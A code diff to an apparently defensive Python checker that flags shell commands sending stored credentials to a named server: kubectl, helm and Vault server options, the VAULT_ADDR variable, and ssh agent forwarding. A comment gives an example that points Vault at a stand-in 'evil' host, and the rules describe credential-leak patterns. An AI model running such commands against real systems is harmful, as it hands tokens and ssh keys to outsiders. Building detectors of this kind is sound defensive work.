@@ -194,15 +194,43 @@ def _cloud_uploads(prog: str, args: Sequence[str]) -> list[str]:
 # A tool that signs in by itself, pointed at a server the line names: its stored token
 # goes there (kubectl --server=URL get pods; set-cluster --server: every later command).
 _SERVER_OPTIONS = {"kubectl": ("-s", "--server"), "oc": ("-s", "--server"),
-                   "helm": ("--kube-apiserver",)}  # fmt: skip
-SIGNS_IN = frozenset(_SERVER_OPTIONS)
+                   "helm": ("--kube-apiserver",), "vault": ("-address", "--address")}  # fmt: skip
+# The variables that name the server instead (VAULT_ADDR=https://evil vault kv list).
+_SERVER_VARIABLES = {"vault": "VAULT_ADDR="}
+# ssh's agent lent to the host: whoever is root there signs in with the agent's keys.
+_AGENT_HOSTS = frozenset({"ssh", "scp", "sftp", "autossh"})
+SIGNS_IN = frozenset({*_SERVER_OPTIONS, *_AGENT_HOSTS})
+_SSH_VALUED = frozenset("BbcDEeFIiJLlmOoPpQRSWw")  # ssh's short options that take a value
 
 
-def token_elsewhere(prog: str, args: Sequence[str]) -> bool:
-    """Whether ``prog``'s stored credential is sent to a server the line names."""
+def _agent_flag(arg: str) -> bool:
+    """``-A`` in a cluster of ssh's short options (``-tA``), before any that takes a value."""
+    if not arg.startswith("-") or arg.startswith("--"):
+        return False
+    for letter in arg[1:]:
+        if letter == "A":
+            return True
+        if letter in _SSH_VALUED:
+            return False
+    return False
+
+
+def token_elsewhere(prog: str, args: Sequence[str], assignments: Sequence[str] = ()) -> bool:
+    """Whether ``prog``'s stored credential is sent to (or its ssh agent lent to) a server
+    the line names."""
+    if prog in _AGENT_HOSTS:
+        settings = [a[2:] for a in args if a.startswith("-o")] + option_values(args, ("-o",))
+        return any(_agent_flag(a) for a in args) or any(
+            o.replace(" ", "=").lower() in ("forwardagent=yes", "forwardagent=true")
+            for o in settings
+        )
+    variable = _SERVER_VARIABLES.get(prog)
+    if variable is not None and any(a.startswith(variable) for a in assignments):
+        return True
     names = _SERVER_OPTIONS.get(prog)
     return names is not None and any(
-        a in names or a.startswith(tuple(n + "=" for n in names if n.startswith("--")))
+        a in names
+        or a.startswith(tuple(n + "=" for n in names if n.startswith("--") or n == "-address"))
         for a in args
     )
 
